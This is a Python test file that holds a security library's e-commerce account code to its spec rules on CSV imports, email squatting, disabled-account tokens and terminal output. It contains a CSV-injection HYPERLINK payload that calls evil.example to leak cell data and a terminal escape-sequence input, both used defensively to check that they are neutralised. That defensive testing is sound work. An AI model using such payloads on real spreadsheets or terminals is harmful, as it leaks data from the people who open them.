"""Attacks on the issue 21 flows: imports, completion, disabled accounts.

Each test names the SPEC rule it holds the library to (M2, O4, P6, M3, X3).
"""

from __future__ import annotations

import csv

import attrs
import pytest

from conftest import FAST_HASHER
from data.import_csv import BCRYPT
from echoppe_accounts import App, CustomerImporter, LegacyHasher, bootstrap
from echoppe_accounts.service_layer.import_records import (
    ImportedAddress,
    ImportedCustomer,
)
from echoppe_accounts.testing import RecordingMailer

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def app(uow_factory, clock, shop_settings) -> App:
    """The library as a shop wires it, checking bcrypt and phpass hashes."""
    return bootstrap(
        uow_factory,
        RecordingMailer(),
        attrs.evolve(shop_settings, outbox_key=bytes(32)),
        clock=clock,
        hasher=LegacyHasher(FAST_HASHER),
    )


def _customer(ref: str, **fields: object) -> ImportedCustomer:
    values: dict[str, object] = {
        "email": "client@exemple.fr",
        "first_name": "Marie",
        "last_name": "Curie",
        "phone": "06 12 34 56 78",
        "password_hash": BCRYPT["motdepasse"],
        "language": "fr",
        "addresses": (
            ImportedAddress(
                ref="1",
                first_name="Marie",
                last_name="Curie",
                address1="12 rue des Lilas",
                postal_code="75011",
                city="Paris",
                country="FR",
            ),
        ),
    }
    values.update(fields)
    return ImportedCustomer(ref=ref, **values)  # type: ignore[arg-type]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_m2_o4_report_cells_never_start_a_spreadsheet_formula(app, tmp_path, start):
    """M2, O4: the report is opened in a spreadsheet; no cell is a formula.

    A source's customer reference and the names of the fields it drops
    come from the old shop's data; written back as they are, a cell such
    as ``=HYPERLINK(...)`` runs when staff open the report (CSV injection).
    """
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1;"x")'
    summary = CustomerImporter(app).import_records(
        [_customer(payload, dropped=(payload,), optin=True)],
        source="test",
        report=tmp_path / "rapport.csv",
        newsletter_wording="v1",
    )
    assert summary.report is not None
    with summary.report.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    assert not [c for c in cells if c.startswith(_FORMULA_STARTS)], rows


def test_f9_m2_a_customer_with_many_addresses_costs_linear_work(monkeypatch):
    """F9, M2: the billing address is found once per customer, not per address.

    A CSV's consecutive lines with one email make one customer, so a file
    can give one customer thousands of addresses; looking for the billing
    address again for each of them made the work quadratic (20,000 lines
    took 36 s for a single customer).
    """
    from echoppe_accounts.service_layer import import_records  # noqa: PLC0415
    from echoppe_accounts.service_layer.import_customers import (  # noqa: PLC0415
        ImportContext,
        validate_customer,
    )

    looked_up = []
    billing = import_records.ImportedCustomer.billing

    def counted(self):
        looked_up.append(1)
        return billing.fget(self)

    monkeypatch.setattr(import_records.ImportedCustomer, "billing", property(counted))
    address = _customer("1").addresses[0]
    record = _customer("1", phone="", addresses=(address,) * 500)
    context = ImportContext(keep_hashes=True, languages=frozenset({"fr", "en"}))
    validate_customer(record, context)
    assert len(looked_up) <= 3


def test_f9_a4_street_text_too_long_to_fit_is_refused_before_any_work(monkeypatch):
    """F9, A4, M2: a huge street text costs no more than a short one.

    Four lines of 38 characters cannot hold megabytes, whatever the
    abbreviations; laying them out word by word took seconds per address.
    """
    from echoppe_accounts.domain import afnor  # noqa: PLC0415

    laid_out: list[str] = []

    def counted(line: str) -> object:
        laid_out.append(line)
        return ()

    monkeypatch.setattr(afnor, "_pieces", counted)
    assert afnor.fit_street_lines("avenue des Champs " * 100_000, "bât. B") is None
    assert laid_out == []


def test_m1_x5_an_unverified_sign_up_does_not_keep_a_customer_out_of_the_import(
    each_adapter_uow_factory, clock, shop_settings, tmp_path
):
    """M1, X5: an unproven sign-up with a customer's email never costs her account.

    Anybody can sign up with somebody else's email; with verified sign-up
    on, that account only holds the email until its mailbox is proven, and
    is removed after 24 hours. An import run meanwhile must not count the
    customer "already present" and drop her addresses, hash and history:
    her account replaces the unproven sign-up, as a sign-up would (X5).
    On every adapter: the batch's look-up reads the holders' rows at once
    (``credentials_by_email_keys``).
    """
    from echoppe_accounts import AccountStatus  # noqa: PLC0415
    from sample_forms import form  # noqa: PLC0415

    app = bootstrap(
        each_adapter_uow_factory,
        RecordingMailer(),
        attrs.evolve(shop_settings, outbox_key=bytes(32), verified_signup=True),
        clock=clock,
        hasher=LegacyHasher(FAST_HASHER),
    )
    app.accounts.register(form(email="client@exemple.fr", password="attaquant-123456"))
    squatter = app.accounts.find_by_email("client@exemple.fr")
    assert squatter is not None
    assert squatter.status is AccountStatus.UNVERIFIED
    summary = CustomerImporter(app).import_records(
        [_customer("42")], source="test", report=tmp_path / "rapport.csv"
    )
    assert summary.already_present == 0
    assert summary.imported == 1
    account = app.accounts.find_by_email("client@exemple.fr")
    assert account is not None
    assert account.id != squatter.id
    assert account.status is AccountStatus.ACTIVE
    with summary.report.open(encoding="utf-8-sig", newline="") as handle:
        entries = [(r[0], r[2]) for r in csv.reader(handle, delimiter=";")]
    assert ("42", "import.unverified_replaced") in entries  # M2: said, not silent


def test_m1_m3_a_registered_customer_wins_over_a_guest_row_with_her_email(
    app, tmp_path
):
    """M1, M3: a guest row never costs the registered customer her account.

    PrestaShop keeps guest checkouts as customer rows (``is_guest = 1``)
    and checks the uniqueness of an email among registered customers only,
    so one email may have a guest row older than its registered one. Read
    in ``id_customer`` order, the guest row makes the account (express, no
    password) and the customer's own row is refused as ``email.taken``:
    her password hash, company and consent do not come over.
    """
    guest = _customer("1", guest=True, password_hash="")
    registered = _customer("2")
    CustomerImporter(app).import_records(
        [guest, registered], source="test", report=tmp_path / "rapport.csv"
    )
    assert app.auth.login("client@exemple.fr", "motdepasse").account_id


def test_f10_m1_an_import_never_takes_an_address_an_account_can_restore(app, tmp_path):
    """F10, M1: for 7 days a changed-from address is its account's to take back.

    Registration refuses it (``email.taken``); an import must not create
    another account with it, or the restore link of a hijacked account
    would bring back an address now held by somebody else.
    """
    from sample_forms import form, links, pending  # noqa: PLC0415

    password = "une phrase de passe solide"
    account = app.accounts.register(form(email="client@exemple.fr", password=password))
    app.accounts.change_email(account.id, "nouvelle@exemple.fr", password)
    (confirm,) = [
        m for m in pending(app.accounts) if m.kind.value == "email_change_confirm"
    ]
    app.accounts.confirm_email_change(links(confirm)["confirmer"])
    summary = CustomerImporter(app).import_records(
        [_customer("42")], source="test", report=tmp_path / "rapport.csv"
    )
    assert summary.imported == 0
    (restore,) = [m for m in pending(app.accounts) if m.kind.value == "email_changed"]
    app.accounts.cancel_email_change(links(restore)["annuler"])
    assert app.accounts.get(account.id).email.address == "client@exemple.fr"


def test_f10_m1_a_batch_looks_restorable_addresses_up_on_every_adapter(
    each_adapter_uow_factory, clock, shop_settings, tmp_path
):
    """F10, M1: in one batch, a restorable address is present, the others new.

    Every adapter answers the batch's look-up (``restorable_email_keys``)
    as :func:`restoring` answers one address; once the 7 days are over,
    the address is free for the import.
    """
    from datetime import timedelta  # noqa: PLC0415

    from sample_forms import form, links, pending  # noqa: PLC0415

    app = bootstrap(
        each_adapter_uow_factory,
        RecordingMailer(),
        attrs.evolve(shop_settings, outbox_key=bytes(32)),
        clock=clock,
        hasher=LegacyHasher(FAST_HASHER),
    )
    password = "une phrase de passe solide"
    account = app.accounts.register(form(email="client@exemple.fr", password=password))
    app.accounts.change_email(account.id, "nouvelle@exemple.fr", password)
    (confirm,) = [
        m for m in pending(app.accounts) if m.kind.value == "email_change_confirm"
    ]
    app.accounts.confirm_email_change(links(confirm)["confirmer"])
    batch = [_customer("42"), _customer("43", email="autre@exemple.fr")]
    summary = CustomerImporter(app).import_records(
        batch, source="test", report=tmp_path / "rapport.csv"
    )
    assert (summary.imported, summary.already_present) == (1, 1)
    clock.advance(timedelta(days=7))  # the restore window is over
    summary = CustomerImporter(app).import_records(
        [_customer("44")], source="test", report=tmp_path / "rapport-2.csv"
    )
    assert summary.imported == 1
    assert app.auth.login("client@exemple.fr", "motdepasse").account_id != account.id


def test_m2_r8_a_set_password_link_sent_before_disabling_never_opens_it(service, auth):
    """M2, R8, X2: disabling kills an express account's set-password link.

    Nor does enabling bring it back: a link that was in a mailbox (or a
    thief's hands) when customer service disabled the account stays dead.
    """
    from echoppe_accounts import (  # noqa: PLC0415
        CompletionForm,
        MailKind,
        ValidationError,
    )
    from echoppe_accounts.service_layer.express import (  # noqa: PLC0415
        issue_set_password,
    )
    from sample_forms import express, links, pending  # noqa: PLC0415

    service.register_express(express("guest@exemple.fr"))
    guest = service.find_by_email("guest@exemple.fr")
    assert guest is not None
    with service.uow() as tx:
        issue_set_password(service._ports, tx, guest)
        tx.commit()
    tokens = [
        next(iter(links(m).values()))
        for m in pending(service)
        if m.kind is MailKind.SET_PASSWORD
    ]
    auth.disable_account(guest.id, agent_id="agent-7", reason="fraude")
    answer = CompletionForm(password="une phrase de passe solide", phone="0612345678")
    for token in tokens:
        with pytest.raises(ValidationError) as info:
            service.complete_express(token, answer)
        assert info.value.errors[0].code == "token.invalid"
    auth.enable_account(guest.id, agent_id="agent-7", reason="vérifié")
    for token in tokens:
        with pytest.raises(ValidationError) as info:
            service.complete_express(token, answer)
        assert info.value.errors[0].code == "token.invalid"


def test_m2_r4_r8_a_provisional_password_given_before_disabling_opens_nothing(
    service, auth
):
    """M2, R4, R7, R8: disabling kills the provisional password and its session.

    Neither a provisional password read out before the account was
    disabled nor the restricted session it already opened can set a
    password afterwards; enabling does not revive them.
    """
    from echoppe_accounts import AuthenticationError, ValidationError  # noqa: PLC0415
    from sample_forms import form  # noqa: PLC0415

    account = service.register(form())
    first = auth.issue_provisional_password(account.id, agent_id="a", reason="r")
    opened = auth.login("jean.dupont@exemple.fr", first.reveal())
    assert opened.restricted
    other = service.register(form(email="marie@exemple.fr"))
    second = auth.issue_provisional_password(other.id, agent_id="a", reason="r")
    auth.disable_account(account.id, agent_id="a", reason="fraude")
    auth.disable_account(other.id, agent_id="a", reason="fraude")
    with pytest.raises(ValidationError) as info:
        auth.set_new_password(opened.change_token.reveal(), "une autre phrase solide")
    assert info.value.errors[0].code == "token.invalid"
    with pytest.raises(AuthenticationError):
        auth.login("marie@exemple.fr", second.reveal())
    auth.enable_account(other.id, agent_id="a", reason="vérifié")
    with pytest.raises(AuthenticationError):
        auth.login("marie@exemple.fr", second.reveal())


def test_o4_a_time_zone_from_the_old_shop_reaches_the_terminal_inert():
    """O4, F9: ``PS_TIMEZONE`` is the old shop's data, shown short and printable.

    The CLI prints the error's message to the operator's terminal: escape
    sequences in it would be obeyed (retitle, clear, hide text), and a
    megabyte-long value printed whole.
    """
    from echoppe_accounts import ValidationError  # noqa: PLC0415
    from echoppe_accounts.adapters.prestashop import _zone  # noqa: PLC0415

    with pytest.raises(ValidationError) as info:
        _zone("\x1b]0;pwned\x07\x1b[2J" + "x" * 100_000)
    (error,) = info.value.errors
    for language in ("fr", "en"):
        message = error.message(language)
        assert not [c for c in message if not c.isprintable()]
        assert len(message) < 200
